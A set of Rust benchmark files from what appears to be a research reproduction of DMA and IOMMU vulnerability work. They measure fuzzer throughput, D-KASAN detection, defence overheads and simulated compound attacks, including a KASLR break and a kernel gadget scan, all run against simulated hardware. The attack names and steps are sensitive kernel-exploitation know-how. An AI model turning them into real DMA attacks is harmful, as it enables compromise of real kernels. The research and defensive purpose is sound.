            .cloned()
            .collect();
        let start = Instant::now();
        let mut inf = ChannelInference::new();
        inf.observe_all(&stream);
        std::hint::black_box(inf.events_seen());
        let infer_ns = start.elapsed().as_nanos() as u64;
        timing.push(BenchResult {
            group: "zoo".into(),
            id: format!("infer_10k_events_{dev}"),
            iters: 1,
            ns_per_iter: infer_ns,
            throughput: Some(Throughput::Elements(INFER_EVENTS as u64)),
        });
        eprintln!("== {dev}: inference over {INFER_EVENTS} events: {infer_ns} ns ==");

        // Warm per-device exec cost: the template boots once, then
        // every exec clones it.
        let mut ctx = ExecContext::new();
        let pinned = |it: u64| {
            let mut input = FuzzInput::generate(SEED, it);
            input.config_id = config;
            input
        };
        ctx.execute(&pinned(0)).expect("template warm-up");
        let start = Instant::now();
        for it in 1..=WARM_EXECS {
            std::hint::black_box(ctx.execute(&pinned(it)).expect("warm exec").signature);
        }
        let exec_ns = (start.elapsed().as_nanos() / u128::from(WARM_EXECS)) as u64;
        timing.push(BenchResult {
            group: "zoo".into(),
            id: format!("exec_warm_{dev}"),
            iters: WARM_EXECS,
            ns_per_iter: exec_ns,
            throughput: Some(Throughput::Elements(1)),
        });
        eprintln!("== {dev}: warm exec: {exec_ns} ns/exec ==");

        // Deterministic facts: the inferred map and its byte-identity.
        let map = infer_channels(SEED, config).expect("inference");
        let identical = map.to_json() == infer_channels(SEED, config).expect("rerun").to_json();
        det_rows.push((config, dev, map, identical));
    }

    let mut det = JsonWriter::new();
    det.obj(|w| {
        w.field_u64("seed", SEED);
        w.field("devices", |w| {
            w.arr(|w| {
                for (config, dev, map, identical) in &det_rows {
                    w.elem(|w| {
                        w.obj(|w| {
                            w.field_str("device", dev);
                            w.field_str("config", config_name(*config));
                            w.field_u64("trace_events", map.events);
                            w.field_u64("channels", map.channels.len() as u64);
                            w.field("kinds", |w| {
                                w.arr(|w| {
                                    for c in &map.channels {
                                        w.elem(|w| {
                                            w.raw(&format!("\"{}\"", c.kind.name()));
                                        });
                                    }
                                });
                            });
                            w.field_bool("two_run_byte_identical", *identical);
                        });
                    });
                }
            });
        });
    });

    let path = bench::emit_zoo_report(&det.finish(), &timing).expect("write BENCH_zoo.json");
    eprintln!("report written: {}", path.display());
    if det_rows.iter().any(|(_, _, _, identical)| !identical) {
        eprintln!("inference byte-identity check failed");
        std::process::exit(1);
    }
}
