//! Attack-side costs: the §5.3 reboot survey (per boot), the KASLR
//! break, the §6 gadget scan over a 16 MiB kernel image, and each
//! compound attack end to end.
//!
//! The §5.3 survey series (kernel 5.0 vs 4.15 repeat fractions) is
//! printed once at startup.

use attacks::forward_thinking;
use attacks::image::KernelImage;
use attacks::poisoned_tx;
use attacks::ringflood::{self, BootSurvey};
use attacks::scan_gadgets;
use criterion::{criterion_group, criterion_main, Criterion};
use dma_core::vuln::WindowPath;

fn print_survey_series() {
    eprintln!("== §5.3 reboot survey (256 boots) ==");
    for (name, cfg) in [
        ("kernel 5.0 (2 KiB frags)", ringflood::kernel50_driver()),
        ("kernel 4.15 (64 KiB LRO)", ringflood::kernel415_driver()),
    ] {
        let s = BootSurvey::run(cfg, 256, 0).unwrap();
        let (pfn, frac) = s.most_common().unwrap();
        eprintln!(
            "  {name}: footprint {:>6} KiB | top PFN {pfn} in {:5.1}% of boots | PFNs >50%: {:4} | >95%: {:4}",
            ringflood::rx_footprint(&cfg) / 1024,
            frac * 100.0,
            s.pfns_above(0.5),
            s.pfns_above(0.95),
        );
    }
}

fn bench_survey(c: &mut Criterion) {
    print_survey_series();
    let mut g = c.benchmark_group("ringflood_survey");
    g.sample_size(10);
    g.bench_function("boot_and_profile_one_machine", |b| {
        let mut seed = 0u64;
        b.iter(|| {
            seed += 1;
            let tb = ringflood::boot(ringflood::kernel50_driver(), WindowPath::NeighborIova, seed)
                .unwrap();
            std::hint::black_box(tb.driver.rx_descriptors().len())
        })
    });
    g.finish();
}

fn bench_gadget_scan(c: &mut Criterion) {
    let image = KernelImage::build(1, 16 << 20);
    let mut g = c.benchmark_group("section6_gadget_scan");
    g.sample_size(10);
    g.bench_function("scan_16MiB_kernel_image", |b| {
        b.iter(|| std::hint::black_box(scan_gadgets(&image.bytes).len()))
    });
    g.finish();
}

fn bench_compound_attacks(c: &mut Criterion) {
    let image = KernelImage::build(1, 16 << 20);
    let survey = BootSurvey::run(ringflood::kernel50_driver(), 48, 0).unwrap();
    let mut g = c.benchmark_group("compound_attacks_end_to_end");
    g.sample_size(10);

    g.bench_function("ringflood", |b| {
        let mut seed = 5000u64;
        b.iter(|| {
            seed += 1;
            std::hint::black_box(
                ringflood::run(
                    &image,
                    ringflood::kernel50_driver(),
                    WindowPath::NeighborIova,
                    seed,
                    &survey,
                )
                .unwrap()
                .outcome
                .succeeded(),
            )
        })
    });

    // The KASLR break succeeds "with high probability" (§2.4), not
    // certainty; the robustness sweep (attacks/examples/seedsweep.rs)
    // validated seeds 0..200 across both attacks. The bench cycles those
    // so it measures cost, not luck.
    g.bench_function("poisoned_tx", |b| {
        let mut i = 0u64;
        b.iter(|| {
            i += 1;
            let r = poisoned_tx::run(&image, WindowPath::DeferredIotlb, i % 200).unwrap();
            assert!(r.outcome.succeeded());
        })
    });

    g.bench_function("forward_thinking", |b| {
        let mut i = 0u64;
        b.iter(|| {
            i += 1;
            let r = forward_thinking::run(&image, WindowPath::DeferredIotlb, i % 200).unwrap();
            assert!(r.outcome.succeeded());
        })
    });
    g.finish();
}

fn bench_kaslr_break(c: &mut Criterion) {
    let mut g = c.benchmark_group("kaslr_break");
    g.sample_size(10);
    g.bench_function("scan_and_derandomize", |b| {
        let mut i = 0u64;
        b.iter(|| {
            i += 1;
            let seed = i % 200;
            let mut tb =
                ringflood::boot(ringflood::kernel50_driver(), WindowPath::NeighborIova, seed)
                    .unwrap();
            let k = ringflood::break_kaslr(&mut tb).unwrap();
            assert!(k.text_base.is_some());
            std::hint::black_box(k)
        })
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_survey,
    bench_gadget_scan,
    bench_compound_attacks,
    bench_kaslr_break
);
criterion_main!(benches);
