//! D-KASAN overhead (§4.3: "a run-time tool that has a large memory
//! footprint and the obvious overhead of callbacks on each memory
//! access"): event-replay throughput, the Figure-3 workload, and the
//! co-location ablation (shared kmalloc caches vs isolated pages).

use criterion::{criterion_group, criterion_main, Criterion};
use dkasan::{run_workload, DKasan, FindingKind, WorkloadConfig};
use dma_core::vuln::DmaDirection;
use dma_core::{Event, Iova, Kva};

fn synth_events(n: usize) -> Vec<Event> {
    let page = 0xffff_8880_0100_0000u64;
    (0..n)
        .map(|i| {
            let k = page + ((i as u64 * 640) & 0xf_ffff);
            match i % 4 {
                0 => Event::Alloc {
                    at: i as u64,
                    kva: Kva(k),
                    size: 512,
                    site: "site_a",
                    cache: "kmalloc-512",
                },
                1 => Event::DmaMap {
                    at: i as u64,
                    device: 1,
                    iova: Iova(0xf000_0000 + (k & 0xffff)),
                    kva: Kva(k),
                    len: 512,
                    dir: DmaDirection::FromDevice,
                    site: "map_site",
                },
                2 => Event::CpuAccess {
                    at: i as u64,
                    kva: Kva(k),
                    len: 8,
                    write: true,
                    site: "cpu_site",
                },
                _ => Event::Free {
                    at: i as u64,
                    kva: Kva(k.wrapping_sub(1280)),
                },
            }
        })
        .collect()
}

fn bench_replay(c: &mut Criterion) {
    let events = synth_events(10_000);
    let mut g = c.benchmark_group("dkasan_replay");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(events.len() as u64));
    g.bench_function("process_10k_events", |b| {
        b.iter(|| {
            let mut dk = DKasan::new();
            dk.process(&events);
            std::hint::black_box(dk.findings().len())
        })
    });
    g.finish();
}

fn bench_workload(c: &mut Criterion) {
    // Print the Figure-3 shape once.
    let report = run_workload(WorkloadConfig {
        rounds: 200,
        seed: 1,
        fault_seed: None,
    })
    .unwrap();
    eprintln!("== Figure 3 workload findings ==");
    for kind in [
        FindingKind::AllocAfterMap,
        FindingKind::MapAfterAlloc,
        FindingKind::AccessAfterMap,
        FindingKind::MultipleMap,
    ] {
        eprintln!("  {:<18} {}", kind.to_string(), report.count(kind));
    }

    let mut g = c.benchmark_group("dkasan_workload");
    g.sample_size(10);
    g.bench_function("figure3_workload_50_rounds", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            std::hint::black_box(
                run_workload(WorkloadConfig {
                    rounds: 50,
                    seed,
                    fault_seed: None,
                })
                .unwrap()
                .allocs,
            )
        })
    });
    g.finish();
}

criterion_group!(benches, bench_replay, bench_workload);
criterion_main!(benches);
