//! D-KASAN overhead (§4.3: "a run-time tool that has a large memory
//! footprint and the obvious overhead of callbacks on each memory
//! access"): event-replay throughput, the Figure-3 workload, and the
//! deterministic shadow-cost profile exported to
//! `BENCH_observability.json`.

use bench::synth_events;
use criterion::{criterion_group, Criterion};
use dkasan::{run_workload, DKasan, FindingKind, WorkloadConfig};
use dma_core::Metrics;

const REPLAY_EVENTS: usize = 10_000;

/// Deterministic section payload: replay the synthetic stream once and
/// export the engine's own cost metrics (events, shadow updates,
/// touches-per-event histogram, findings per class).
fn replay_metrics_json() -> String {
    let mut dk = DKasan::new();
    dk.process(&synth_events(REPLAY_EVENTS));
    let mut m = Metrics::new();
    dk.publish_metrics(&mut m);
    m.snapshot(0).to_json()
}

fn bench_replay(c: &mut Criterion) {
    let events = synth_events(REPLAY_EVENTS);
    let mut g = c.benchmark_group("dkasan_replay");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(events.len() as u64));
    g.bench_function("process_10k_events", |b| {
        b.iter(|| {
            let mut dk = DKasan::new();
            dk.process(&events);
            std::hint::black_box(dk.findings().len())
        })
    });
    g.finish();
}

fn bench_workload(c: &mut Criterion) {
    // Print the Figure-3 shape once.
    let report = run_workload(WorkloadConfig {
        rounds: 200,
        seed: 1,
        fault_seed: None,
    })
    .unwrap();
    eprintln!("== Figure 3 workload findings ==");
    for kind in FindingKind::ALL {
        eprintln!("  {:<18} {}", kind.to_string(), report.count(kind));
    }

    let mut g = c.benchmark_group("dkasan_workload");
    g.sample_size(10);
    g.bench_function("figure3_workload_50_rounds", |b| {
        let mut seed = 0;
        b.iter(|| {
            seed += 1;
            std::hint::black_box(
                run_workload(WorkloadConfig {
                    rounds: 50,
                    seed,
                    fault_seed: None,
                })
                .unwrap()
                .allocs,
            )
        })
    });
    g.finish();
}

criterion_group!(benches, bench_replay, bench_workload);

fn main() {
    let mut c = benches();
    let det = vec![("replay_10k_events", replay_metrics_json())];
    let results = c.take_results();
    let path = bench::emit_section("dkasan", &det, &results).expect("write bench section");
    eprintln!("section written: {}", path.display());
}
