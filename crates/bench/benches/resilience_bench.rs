//! Crash-safety cost model: what the DESIGN.md §11 robustness layers
//! charge per execution and per checkpoint, exported to
//! `BENCH_resilience.json`.
//!
//! Timing rows:
//! - `checkpoint_save_small` / `checkpoint_save_large` — A/B store
//!   write cost for a snapshot captured at two corpus scales.
//! - `checkpoint_load` — validate-and-parse cost of the newest
//!   generation.
//! - `exec_plain` vs `exec_guarded` — the same input through the bare
//!   executor and through `catch_unwind` + watchdog budget; their ratio
//!   is the `guard_overhead_x` the campaign pays on every iteration.
//!
//! The deterministic half re-runs the kill-and-resume experiment and
//! records its verdict, so the bench file also witnesses the
//! byte-identity contract.

use criterion::{criterion_group, Criterion};
use dma_core::jsonw::JsonWriter;
use dma_core::CheckpointStore;
use fuzz::{
    execute, execute_with_budget, kill_and_resume, Campaign, CampaignConfig, FuzzInput,
    DEFAULT_WATCHDOG_BUDGET,
};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::PathBuf;

/// The pinned campaign every surface shares (CI smoke, README, tests).
const SEED: u64 = 7;

fn tmp(name: &str) -> PathBuf {
    std::env::temp_dir().join(format!(
        "dma-lab-resilience-bench-{}-{name}",
        std::process::id()
    ))
}

/// Snapshot payload of a campaign run for `iters` iterations.
fn payload_at(iters: u64) -> String {
    let mut c = Campaign::new(CampaignConfig::new(SEED, iters)).expect("campaign");
    c.run_to_end().expect("run");
    c.snapshot_payload()
}

fn bench_checkpoint_io(c: &mut Criterion) {
    let small = payload_at(8);
    let large = payload_at(64);
    let mut g = c.benchmark_group("resilience");
    g.sample_size(20);
    for (id, payload) in [
        ("checkpoint_save_small", &small),
        ("checkpoint_save_large", &large),
    ] {
        let dir = tmp(id);
        let _ = std::fs::remove_dir_all(&dir);
        let mut store = CheckpointStore::open(&dir).expect("store");
        g.bench_function(id, |b| {
            b.iter(|| std::hint::black_box(store.save(payload).expect("save")))
        });
        let _ = std::fs::remove_dir_all(&dir);
    }
    {
        let dir = tmp("checkpoint_load");
        let _ = std::fs::remove_dir_all(&dir);
        let mut store = CheckpointStore::open(&dir).expect("store");
        store.save(&large).expect("seed generation");
        g.bench_function("checkpoint_load", |b| {
            b.iter(|| std::hint::black_box(store.load().expect("load").is_some()))
        });
        let _ = std::fs::remove_dir_all(&dir);
    }
    g.finish();
}

fn bench_guard_overhead(c: &mut Criterion) {
    let input = FuzzInput::generate(SEED, 0);
    let mut g = c.benchmark_group("resilience");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(1));
    g.bench_function("exec_plain", |b| {
        b.iter(|| std::hint::black_box(execute(&input).unwrap().signature))
    });
    g.bench_function("exec_guarded", |b| {
        b.iter(|| {
            let out = catch_unwind(AssertUnwindSafe(|| {
                execute_with_budget(&input, DEFAULT_WATCHDOG_BUDGET)
            }))
            .expect("no panic")
            .unwrap();
            std::hint::black_box(out.signature)
        })
    });
    g.finish();
}

criterion_group!(benches, bench_checkpoint_io, bench_guard_overhead);

fn main() {
    let mut c = benches();

    // Deterministic half: the kill-and-resume experiment, pinned.
    let dir = tmp("kill-resume");
    let _ = std::fs::remove_dir_all(&dir);
    let mut cfg = CampaignConfig::new(SEED, 24);
    cfg.checkpoint_dir = Some(dir.clone());
    cfg.checkpoint_every = 6;
    let out = kill_and_resume(&cfg, 13).expect("kill and resume");
    let _ = std::fs::remove_dir_all(&dir);
    assert!(
        out.identical(),
        "resumed report diverged from uninterrupted"
    );
    eprintln!(
        "== kill at {} / resume from {}: byte-identical={} recovered={} ==",
        out.kill_at,
        out.resumed_from,
        out.identical(),
        out.recovered
    );

    let small = payload_at(8);
    let large = payload_at(64);
    let mut w = JsonWriter::new();
    w.obj(|w| {
        w.field_u64("seed", SEED);
        w.field_u64("iters", 24);
        w.field_u64("kill_at", out.kill_at);
        w.field_u64("resumed_from", out.resumed_from);
        w.field_bool("byte_identical", out.identical());
        w.field_u64("recovered_generations", out.recovered);
        w.field_u64("payload_bytes_8_iters", small.len() as u64);
        w.field_u64("payload_bytes_64_iters", large.len() as u64);
    });
    let deterministic = w.finish();

    let results = c.take_results();
    let path = bench::emit_resilience_report(&deterministic, &results)
        .expect("write BENCH_resilience.json");
    eprintln!("report written: {}", path.display());
}
