//! Figure 5 + allocator ablation: page_frag carving vs kmalloc vs
//! page-per-buffer for RX buffers, and SLUB kmalloc/kfree cycling.
//!
//! The paper's point: page_frag is the *fast* allocator (which is why
//! the network stack uses it 344 times) — and the type (c) vulnerability
//! is the price.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use dma_core::SimCtx;
use sim_mem::{MemConfig, MemorySystem};

fn fresh() -> (SimCtx, MemorySystem) {
    (SimCtx::new(), MemorySystem::new(&MemConfig::default()))
}

fn bench_rx_allocators(c: &mut Criterion) {
    let mut g = c.benchmark_group("figure5_rx_allocators");
    g.sample_size(20);

    g.bench_function("page_frag_2048", |b| {
        b.iter_batched(
            fresh,
            |(mut ctx, mut mem)| {
                for _ in 0..64 {
                    let k = mem.page_frag_alloc(&mut ctx, 2048, "rx").unwrap();
                    std::hint::black_box(k);
                }
            },
            BatchSize::SmallInput,
        )
    });

    g.bench_function("kmalloc_2048", |b| {
        b.iter_batched(
            fresh,
            |(mut ctx, mut mem)| {
                for _ in 0..64 {
                    let k = mem.kmalloc(&mut ctx, 2048, "rx").unwrap();
                    std::hint::black_box(k);
                }
            },
            BatchSize::SmallInput,
        )
    });

    g.bench_function("page_per_buffer", |b| {
        b.iter_batched(
            fresh,
            |(mut ctx, mut mem)| {
                for _ in 0..64 {
                    let p = mem.alloc_pages(&mut ctx, 0, "rx").unwrap();
                    std::hint::black_box(p);
                }
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();
}

fn bench_slab_cycle(c: &mut Criterion) {
    let mut g = c.benchmark_group("slab_alloc_free");
    g.sample_size(20);
    for size in [64usize, 512, 2048] {
        g.bench_function(format!("kmalloc_kfree_{size}"), |b| {
            let (mut ctx, mut mem) = fresh();
            b.iter(|| {
                let k = mem.kmalloc(&mut ctx, size, "bench").unwrap();
                mem.kfree(&mut ctx, k).unwrap();
            })
        });
    }
    g.finish();
}

fn bench_buddy(c: &mut Criterion) {
    let mut g = c.benchmark_group("buddy");
    g.sample_size(20);
    for order in [0u32, 3] {
        g.bench_function(format!("alloc_free_order{order}"), |b| {
            let (mut ctx, mut mem) = fresh();
            b.iter(|| {
                let p = mem.alloc_pages(&mut ctx, order, "bench").unwrap();
                mem.free_pages(&mut ctx, p, order).unwrap();
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench_rx_allocators, bench_slab_cycle, bench_buddy);
criterion_main!(benches);
