//! Defense-overhead ablation (§8): what each countermeasure costs on the
//! I/O fast path, next to the vanilla zero-copy DMA API.
//!
//! The paper's trade-off being quantified: bounce buffers buy complete
//! sub-page isolation for a per-byte copy cost ("this solution imposes a
//! large overhead of data copying"); DAMN is zero-copy but leaves the
//! metadata exposure; sub-page bounds add a per-access check.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use defenses::{BounceDma, DamnAllocator, SubPageIommu};
use dma_core::vuln::DmaDirection;
use dma_core::SimCtx;
use sim_iommu::{dma_map_single, dma_unmap_single, InvalidationMode, Iommu, IommuConfig};
use sim_mem::{MemConfig, MemorySystem};

fn setup() -> (SimCtx, MemorySystem, Iommu) {
    let ctx = SimCtx::new();
    let mem = MemorySystem::new(&MemConfig::default());
    let mut iommu = Iommu::new(IommuConfig {
        mode: InvalidationMode::Strict,
        ..Default::default()
    });
    iommu.attach_device(1);
    (ctx, mem, iommu)
}

fn bench_io_path(c: &mut Criterion) {
    let mut g = c.benchmark_group("defense_io_path_1500B");
    g.sample_size(20);

    // Vanilla zero-copy map/unmap.
    g.bench_function("vanilla_dma_api", |b| {
        b.iter_batched(
            setup,
            |(mut ctx, mut mem, mut iommu)| {
                for _ in 0..32 {
                    let buf = mem.kmalloc(&mut ctx, 1500, "io").unwrap();
                    let m = dma_map_single(
                        &mut ctx,
                        &mut iommu,
                        &mem.layout,
                        1,
                        buf,
                        1500,
                        DmaDirection::FromDevice,
                        "m",
                    )
                    .unwrap();
                    iommu
                        .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"pkt")
                        .unwrap();
                    dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
                    mem.kfree(&mut ctx, buf).unwrap();
                }
            },
            BatchSize::SmallInput,
        )
    });

    // Bounce buffers: map copies in, unmap copies out.
    g.bench_function("bounce_buffers", |b| {
        b.iter_batched(
            || {
                let (mut ctx, mut mem, mut iommu) = setup();
                let pool = BounceDma::new(&mut ctx, &mut mem, &mut iommu, 1, 8).unwrap();
                (ctx, mem, iommu, pool)
            },
            |(mut ctx, mut mem, mut iommu, mut pool)| {
                for _ in 0..32 {
                    let buf = mem.kmalloc(&mut ctx, 1500, "io").unwrap();
                    let m = pool
                        .map(&mut ctx, &mut mem, buf, 1500, DmaDirection::FromDevice)
                        .unwrap();
                    iommu
                        .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"pkt")
                        .unwrap();
                    pool.unmap(&mut ctx, &mut mem, &m).unwrap();
                    mem.kfree(&mut ctx, buf).unwrap();
                }
            },
            BatchSize::SmallInput,
        )
    });

    // DAMN: zero-copy from the dedicated allocator.
    g.bench_function("damn_allocator", |b| {
        b.iter_batched(
            || {
                let (ctx, mem, iommu) = setup();
                (ctx, mem, iommu, DamnAllocator::new())
            },
            |(mut ctx, mut mem, mut iommu, mut damn)| {
                for _ in 0..32 {
                    let buf = damn.alloc(&mut ctx, &mut mem, 1500).unwrap();
                    let m = dma_map_single(
                        &mut ctx,
                        &mut iommu,
                        &mem.layout,
                        1,
                        buf,
                        1500,
                        DmaDirection::FromDevice,
                        "m",
                    )
                    .unwrap();
                    iommu
                        .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"pkt")
                        .unwrap();
                    dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
                    damn.free(&mut ctx, buf).unwrap();
                }
            },
            BatchSize::SmallInput,
        )
    });

    // Sub-page bounds: the extra per-access range check.
    g.bench_function("subpage_bounds", |b| {
        b.iter_batched(
            || {
                let (ctx, mem, iommu) = setup();
                (ctx, mem, iommu, SubPageIommu::new())
            },
            |(mut ctx, mut mem, mut iommu, mut sp)| {
                for _ in 0..32 {
                    let buf = mem.kmalloc(&mut ctx, 1500, "io").unwrap();
                    let m = dma_map_single(
                        &mut ctx,
                        &mut iommu,
                        &mem.layout,
                        1,
                        buf,
                        1500,
                        DmaDirection::FromDevice,
                        "m",
                    )
                    .unwrap();
                    sp.register(1, m.iova, 1500);
                    sp.dev_write(&mut ctx, &mut iommu, &mut mem.phys, 1, m.iova, b"pkt")
                        .unwrap();
                    sp.unregister(1, m.iova);
                    dma_unmap_single(&mut ctx, &mut iommu, &m).unwrap();
                    mem.kfree(&mut ctx, buf).unwrap();
                }
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();

    // Print the simulated-cycle copy tax once.
    let (mut ctx, mut mem, mut iommu) = setup();
    let mut pool = BounceDma::new(&mut ctx, &mut mem, &mut iommu, 1, 8).unwrap();
    for _ in 0..100 {
        let buf = mem.kmalloc(&mut ctx, 1500, "io").unwrap();
        let m = pool
            .map(&mut ctx, &mut mem, buf, 1500, DmaDirection::Bidirectional)
            .unwrap();
        pool.unmap(&mut ctx, &mut mem, &m).unwrap();
        mem.kfree(&mut ctx, buf).unwrap();
    }
    eprintln!(
        "== bounce-buffer copy tax: {} bytes copied, {} simulated cycles over 100 × 1500 B I/Os ==",
        pool.bytes_copied, pool.copy_cycles
    );
}

criterion_group!(benches, bench_io_path);
criterion_main!(benches);
