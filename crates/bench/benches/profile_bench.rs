//! Cycle-attribution profiler benchmarks: what the profiled warm
//! executor sustains and what the flamegraph exports cost, exported to
//! `BENCH_profile.json` (its own report, like `BENCH_fuzz.json`).
//!
//! Timing rows:
//!
//! - `profile_shards_1` / `profile_shards_8` — the pinned seed-7,
//!   96-iter profile workload per exec, single-threaded vs 8 contiguous
//!   iteration chunks (the merged tree is byte-identical either way).
//! - `folded_export` / `speedscope_export` — serialising the merged
//!   tree to folded-stack lines and speedscope JSON.
//!
//! The deterministic half is `ProfileRun::deterministic_json` — run
//! facts, the hottest self-cycle frame, and the per-exec phase
//! breakdown — which `dma-lab bench --check BENCH_profile.json`
//! re-derives, plus the two-run folded byte-identity verdict.

use criterion::{BenchResult, Throughput};
use dma_lab::profiling::{run_profile, ProfileConfig};
use std::time::Instant;

/// The pinned campaign seed every surface shares (CI smoke, README).
const SEED: u64 = 7;
/// Iteration budget of the pinned profile workload.
const ITERS: u64 = 96;

fn main() {
    let mut timing = Vec::new();

    let mut timed_run = |shards: u32| {
        let start = Instant::now();
        let run = run_profile(&ProfileConfig {
            shards,
            ..ProfileConfig::new(SEED, ITERS)
        })
        .expect("profile workload");
        let ns = (start.elapsed().as_nanos() / u128::from(ITERS)) as u64;
        timing.push(BenchResult {
            group: "profile".into(),
            id: format!("profile_shards_{shards}"),
            iters: ITERS,
            ns_per_iter: ns,
            throughput: Some(Throughput::Elements(1)),
        });
        eprintln!("== profile workload, {shards} shard(s): {ns} ns/exec ==");
        run
    };

    let run = timed_run(1);
    let rerun = timed_run(8);

    // Byte-identity across both the rerun and the shard split: one
    // verdict covers determinism and merge associativity at once.
    let folded_identical = run.profile.folded() == rerun.profile.folded();

    let start = Instant::now();
    let folded = run.profile.folded();
    let folded_ns = start.elapsed().as_nanos() as u64;
    timing.push(BenchResult {
        group: "profile".into(),
        id: "folded_export".into(),
        iters: 1,
        ns_per_iter: folded_ns,
        throughput: Some(Throughput::Elements(folded.lines().count() as u64)),
    });

    let start = Instant::now();
    let speedscope = run.profile.speedscope_json("profile_bench");
    let speedscope_ns = start.elapsed().as_nanos() as u64;
    timing.push(BenchResult {
        group: "profile".into(),
        id: "speedscope_export".into(),
        iters: 1,
        ns_per_iter: speedscope_ns,
        throughput: Some(Throughput::Elements(speedscope.len() as u64)),
    });

    let (top_frame, top_cycles) = run.profile.top_self().unwrap_or_default();
    eprintln!(
        "== seed {SEED}, {ITERS} iters: {} execs, {} total cycles, hottest {top_frame} ({top_cycles} self cycles) ==",
        run.execs, run.total_cycles
    );

    let path = bench::emit_profile_report(&run.deterministic_json(), folded_identical, &timing)
        .expect("write BENCH_profile.json");
    eprintln!("report written: {}", path.display());
    if !folded_identical {
        eprintln!("folded-output byte-identity check failed");
        std::process::exit(1);
    }
}
