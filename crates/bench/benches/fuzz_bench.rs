//! Fuzzer throughput and coverage growth: wall-clock execs/sec plus the
//! deterministic coverage-over-time series, exported to
//! `BENCH_fuzz.json` (its own report — the fuzzer is a consumer of the
//! observability stack, not a section of it).

use criterion::{criterion_group, Criterion};
use fuzz::{execute, run_fuzz, ExecContext, FuzzConfig, FuzzInput};

/// The pinned campaign every surface shares (CI smoke, README, tests):
/// seed 7 for 96 iterations rediscovers all four Figure-1 classes.
const SEED: u64 = 7;
const ITERS: u64 = 96;

fn bench_execute(c: &mut Criterion) {
    let input = FuzzInput::generate(SEED, 0);
    let mut g = c.benchmark_group("fuzz");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(1));
    g.bench_function("execute_one_input", |b| {
        b.iter(|| std::hint::black_box(execute(&input).unwrap().signature))
    });
    g.finish();
}

fn bench_execute_warm(c: &mut Criterion) {
    let input = FuzzInput::generate(SEED, 0);
    let mut cx = ExecContext::new();
    // Prime the boot template outside the timed region so the rows
    // compare steady-state warm execs against cold boot-per-exec ones.
    cx.execute(&input).expect("prime exec context");
    let mut g = c.benchmark_group("fuzz");
    g.sample_size(20);
    g.throughput(criterion::Throughput::Elements(1));
    g.bench_function("execute_one_input_warm", |b| {
        b.iter(|| std::hint::black_box(cx.execute(&input).unwrap().signature))
    });
    g.finish();
}

fn bench_campaign(c: &mut Criterion) {
    let mut g = c.benchmark_group("fuzz");
    g.sample_size(10);
    g.throughput(criterion::Throughput::Elements(16));
    g.bench_function("campaign_16_iters", |b| {
        b.iter(|| {
            std::hint::black_box(
                run_fuzz(&FuzzConfig {
                    seed: SEED,
                    iters: 16,
                    corpus_dir: None,
                })
                .unwrap()
                .coverage_bits,
            )
        })
    });
    g.finish();
}

criterion_group!(benches, bench_execute, bench_execute_warm, bench_campaign);

fn main() {
    let mut c = benches();
    let report = run_fuzz(&FuzzConfig {
        seed: SEED,
        iters: ITERS,
        corpus_dir: None,
    })
    .expect("pinned campaign");
    eprintln!(
        "== fuzz campaign (seed {SEED}, {ITERS} iters): {} bits, {} corpus, {} classes ==",
        report.coverage_bits,
        report.corpus.len(),
        report.findings.len()
    );
    let results = c.take_results();
    let path = bench::emit_fuzz_report(&report, &results).expect("write BENCH_fuzz.json");
    eprintln!("report written: {}", path.display());
}
