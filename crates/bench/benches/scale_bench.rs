//! Sharded-campaign throughput: wall-clock execs/sec and sim-cycles/sec
//! at 1/2/4/8 shards, merge cost, the thread-identity verdict, and the
//! warm-engine-vs-cold-baseline speedup, exported to `BENCH_scale.json`
//! (its own report, like `BENCH_fuzz.json`).
//!
//! The baseline row (`exec_cold`) times the boot-per-exec path the
//! engine used before boot-template caching; the `shards_N` rows time
//! the sharded engine end to end (shard execution only — the merge is
//! timed separately as `merge_N`). On a single-core box the shard rows
//! cluster around the same warm per-exec cost and the speedup comes
//! from template reuse; on multi-core hardware thread scaling compounds
//! on top.

use criterion::{BenchResult, Throughput};
use dma_core::jsonw::JsonWriter;
use fuzz::{execute, FuzzInput, ShardConfig, ShardedCampaign};
use std::time::Instant;

/// The pinned campaign every surface shares (CI smoke, README, tests).
const SEED: u64 = 7;
/// Iteration budget **per shard**.
const ITERS: u64 = 96;
/// Execs averaged for the cold boot-per-exec baseline row.
const COLD_EXECS: u64 = 12;
/// Shard counts the scaling table sweeps.
const SHARD_COUNTS: [u32; 4] = [1, 2, 4, 8];

struct Row {
    shards: u32,
    threads: usize,
    execs: u64,
    minimize_execs: u64,
    total_cycles: u64,
    coverage_bits: u32,
    corpus_entries: usize,
    finding_classes: usize,
    run_ns: u64,
    merge_ns: u64,
}

fn main() {
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let mut timing = Vec::new();

    // Cold baseline: one full machine boot per exec.
    let start = Instant::now();
    for i in 0..COLD_EXECS {
        std::hint::black_box(
            execute(&FuzzInput::generate(SEED, i))
                .expect("cold exec")
                .signature,
        );
    }
    let cold_ns = (start.elapsed().as_nanos() / u128::from(COLD_EXECS)) as u64;
    timing.push(BenchResult {
        group: "scale".into(),
        id: "exec_cold".into(),
        iters: COLD_EXECS,
        ns_per_iter: cold_ns,
        throughput: Some(Throughput::Elements(1)),
    });
    eprintln!("== cold boot-per-exec baseline: {cold_ns} ns/exec ==");

    let mut rows = Vec::new();
    for &shards in &SHARD_COUNTS {
        let used = threads.min(shards as usize);
        let sc = ShardedCampaign::new(ShardConfig::new(SEED, ITERS, shards, used));
        let start = Instant::now();
        let outcomes = sc.run_shards(false).expect("shard run");
        let run_ns = start.elapsed().as_nanos() as u64;
        let start = Instant::now();
        let report = sc.merge(outcomes).expect("merge");
        let merge_ns = start.elapsed().as_nanos() as u64;
